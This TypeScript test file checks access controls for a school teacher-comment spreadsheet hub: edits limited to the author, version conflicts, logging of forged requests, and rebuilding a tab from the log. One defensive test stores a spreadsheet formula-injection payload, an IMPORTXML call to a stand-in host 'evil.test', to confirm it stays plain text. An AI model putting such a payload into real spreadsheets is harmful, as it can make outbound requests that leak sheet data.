/*
 * The locked comment layer on the built bundle: teachers save through the web app (as the
 * hub owner), never by writing the tabs; authors alone edit; stale versions conflict; formulas
 * stay text; forged requests are refused and logged; a wrecked tab is rebuilt from the log.
 */
import { run, type SpreadsheetContent, sheetToCsv } from "../../emulator";
import { toConferCsv } from "../../scripts/demo-school";
import { parseCsv } from "../../src/domain/roster/csv";
import { type DemoHub, readyHub, writeCellByHand } from "./harness";
import { columnsOf } from "./hub-columns";

interface Entry {
  studentId: string;
  text: string;
  commentId?: string;
  version?: number;
  withdraw?: boolean;
}
interface Result {
  studentId: string;
  outcome: string;
  reason?: string;
  comment?: { id: string; version: number; text: string; status: string };
  current?: { text: string; version: number };
}

function tab(hub: DemoHub, name: string): string[][] {
  return parseCsv(sheetToCsv(hub.ws, hub.hubId, name)).map((r) => [...r.fields]);
}

function classOf(hub: DemoHub, index = 0) {
  return hub.school.classes[index]!;
}

function save(hub: DemoHub, as: string, classId: string, entries: Entry[], teacherEmail = as) {
  return run(hub.ws, {
    fn: "saveComments",
    args: [{ classId, teacherEmail, entries }],
    as,
    containerId: hub.hubId,
    kind: "sidebar",
  });
}

function saved(hub: DemoHub, as: string, classId: string, entries: Entry[]): Result[] {
  const result = save(hub, as, classId, entries);
  if (!result.ok) throw new Error(result.error?.message);
  return (result.value as { results: Result[] }).results;
}

describe("the locked comment layer", () => {
  it("saves a class's comments through the web app while a direct write to the tab is refused", () => {
    const hub = readyHub();
    const math = classOf(hub);
    const entries = math.studentIds.map((id, i) => ({
      studentId: id,
      text: `Comment ${i} for ${id}`,
    }));
    const results = saved(hub, math.teacherEmail, math.id, entries);
    expect(results.every((r) => r.outcome === "saved")).toBe(true);
    const rows = tab(hub, `Grade ${math.grade} Comments`).slice(1);
    expect(rows).toHaveLength(math.studentIds.length);
    const cell = columnsOf(hub, `Grade ${math.grade} Comments`);
    expect(
      rows.every(
        (row) =>
          cell(row, "Teacher Email") === math.teacherEmail && cell(row, "Status") === "active",
      ),
    ).toBe(true);
    const webApp = hub.ws.history.filter((r) => r.kind === "webapp" && r.fn === "doPost");
    expect(webApp.at(-1)!.user).toBe(hub.coordinator);
    expect(webApp.at(-1)!.activeUser).toBe(math.teacherEmail);

    hub.ws.drive.share(hub.ws.drive.get(hub.hubId)!, math.teacherEmail, "editor");
    const direct = writeCellByHand(
      hub,
      math.teacherEmail,
      `Grade ${math.grade} Comments`,
      "G2",
      "Gone",
    );
    expect(direct.error?.message).toMatch(/protected cell/);
    expect(tab(hub, `Grade ${math.grade} Comments`)[1]![6]).toBe(entries[0]!.text);
  });

  it("keeps another teacher from editing or withdrawing a comment", () => {
    const hub = readyHub();
    const math = classOf(hub);
    const student = math.studentIds[0]!;
    const [first] = saved(hub, math.teacherEmail, math.id, [
      { studentId: student, text: "Strong start." },
    ]);
    const other = hub.school.classes.find(
      (c) => c.teacherEmail !== math.teacherEmail && c.studentIds.includes(student),
    )!;
    const results = saved(hub, other.teacherEmail, other.id, [
      { studentId: student, text: "Overwritten!", commentId: first!.comment!.id, version: 1 },
    ]);
    expect(results[0]).toMatchObject({ outcome: "refused" });
    expect(results[0]!.reason).toMatch(/only its author or a coordinator may change it/);
    const withdraw = saved(hub, other.teacherEmail, other.id, [
      { studentId: student, text: "", commentId: first!.comment!.id, version: 1, withdraw: true },
    ]);
    expect(withdraw[0]).toMatchObject({ outcome: "refused" });
    const cell = columnsOf(hub, `Grade ${math.grade} Comments`);
    const row = tab(hub, `Grade ${math.grade} Comments`).find(
      (r) => cell(r, "Comment ID") === first!.comment!.id,
    )!;
    expect(row).toEqual(expect.arrayContaining(["Strong start.", "active"]));
  });

  it("refuses a stale edit with a conflict that shows the current text", () => {
    const hub = readyHub();
    const math = classOf(hub);
    const student = math.studentIds[1]!;
    const [created] = saved(hub, math.teacherEmail, math.id, [
      { studentId: student, text: "First draft." },
    ]);
    const id = created!.comment!.id;
    saved(hub, math.teacherEmail, math.id, [
      { studentId: student, text: "Second draft.", commentId: id, version: 1 },
    ]);
    const [stale] = saved(hub, math.teacherEmail, math.id, [
      { studentId: student, text: "From an old tab.", commentId: id, version: 1 },
    ]);
    expect(stale).toMatchObject({
      outcome: "conflict",
      current: { text: "Second draft.", version: 2 },
    });
  });

  it("stores a formula-looking comment as plain text", () => {
    const hub = readyHub();
    const math = classOf(hub);
    const texts = [
      '=IMPORTXML("http://evil.test","//a")',
      "+1 great work",
      "-2 late",
      "@mention",
      "<b>bold</b>",
    ];
    const entries = texts.map((text, i) => ({ studentId: math.studentIds[i]!, text }));
    saved(hub, math.teacherEmail, math.id, entries);
    const cell = columnsOf(hub, `Grade ${math.grade} Comments`);
    const stored = tab(hub, `Grade ${math.grade} Comments`)
      .slice(1)
      .map((row) => cell(row, "Comment"));
    expect(stored).toEqual(texts);
  });

  it("refuses and logs forged requests", () => {
    const hub = readyHub();
    const math = classOf(hub);
    const other = hub.school.classes.find((c) => c.teacherEmail !== math.teacherEmail)!;
    const asOther = save(
      hub,
      other.teacherEmail,
      math.id,
      [{ studentId: math.studentIds[0]!, text: "x" }],
      math.teacherEmail,
    );
    expect(asOther.error?.message).toMatch(/cannot write comments as/);
    const notMine = save(hub, other.teacherEmail, math.id, [
      { studentId: math.studentIds[0]!, text: "x" },
    ]);
    expect(notMine.error?.message).toMatch(/does not teach/);
    const outsider = hub.school.students.find((s) => !math.studentIds.includes(s.id))!;
    const [refused] = saved(hub, math.teacherEmail, math.id, [
      { studentId: outsider.id, text: "x" },
    ]);
    expect(refused!.reason).toMatch(/is not enrolled in/);
    const log = tab(hub, "Comment Log").slice(1);
    const cell = columnsOf(hub, "Comment Log");
    expect(log.filter((row) => cell(row, "Action") === "refused")).toHaveLength(3);
  });

  it("rebuilds a wrecked tab from the log, equal to the tab before it was wrecked", () => {
    const hub = readyHub();
    const math = classOf(hub);
    const results = saved(
      hub,
      math.teacherEmail,
      math.id,
      math.studentIds.slice(0, 6).map((id) => ({ studentId: id, text: `Note on ${id}` })),
    );
    saved(hub, math.teacherEmail, math.id, [
      {
        studentId: math.studentIds[0]!,
        text: "Edited",
        commentId: results[0]!.comment!.id,
        version: 1,
      },
      {
        studentId: math.studentIds[1]!,
        text: "",
        commentId: results[1]!.comment!.id,
        version: 1,
        withdraw: true,
      },
    ]);
    const name = `Grade ${math.grade} Comments`;
    const before = tab(hub, name);
    const content = hub.ws.drive.get(hub.hubId)!.content as SpreadsheetContent;
    const data = content.sheetByName(name)!;
    data.rows.splice(3, 2);
    data.rows[1] = null;
    expect(tab(hub, name)).not.toEqual(before);
    const rebuilt = run(hub.ws, {
      fn: "rebuildCommentTabsFromLog",
      as: hub.coordinator,
      containerId: hub.hubId,
    });
    expect(rebuilt.error).toBeUndefined();
    expect(tab(hub, name)).toEqual(before);
  });
});

describe("comments on a student who changes grade", () => {
  it("follow the student into the new grade's tab, where the author edits them and Rebuild keeps them", () => {
    const hub = readyHub();
    const math = classOf(hub);
    const studentId = math.studentIds[0]!;
    const student = hub.school.students.find((s) => s.id === studentId)!;
    const [saved0] = saved(hub, math.teacherEmail, math.id, [{ studentId, text: "Strong start." }]);
    const newGrade = hub.school.grades.find((g) => g !== student.grade)!;
    const files = toConferCsv({
      ...hub.school,
      students: hub.school.students.map((s) =>
        s.id === studentId ? { ...s, grade: newGrade } : s,
      ),
    });
    const imported = run(hub.ws, {
      fn: "importRoster",
      args: [
        {
          format: "confer",
          students: files["students.csv"],
          staff: files["staff.csv"],
          classes: files["classes.csv"],
        },
      ],
      as: hub.coordinator,
      containerId: hub.hubId,
      kind: "sidebar",
    });
    expect((imported.value as { regraded: number }).regraded).toBe(1);
    const inTab = (grade: string) => {
      const cell = columnsOf(hub, `Grade ${grade} Comments`);
      return tab(hub, `Grade ${grade} Comments`)
        .filter((r) => cell(r, "Student ID") === studentId)
        .map((r) => cell(r, "Comment"));
    };
    expect(inTab(newGrade)).toEqual(["Strong start."]);
    expect(inTab(student.grade)).toEqual([]);
    const [edited] = saved(hub, math.teacherEmail, math.id, [
      {
        studentId,
        text: "Strong start, and steady since.",
        commentId: saved0!.comment!.id,
        version: saved0!.comment!.version,
      },
    ]);
    expect(edited!.outcome).toBe("saved");
    run(hub.ws, {
      fn: "rebuildCommentTabsFromLog",
      as: hub.coordinator,
      containerId: hub.hubId,
      kind: "menu",
    });
    expect(inTab(newGrade)).toEqual(["Strong start, and steady since."]);
    expect(inTab(student.grade)).toEqual([]);
  });
});
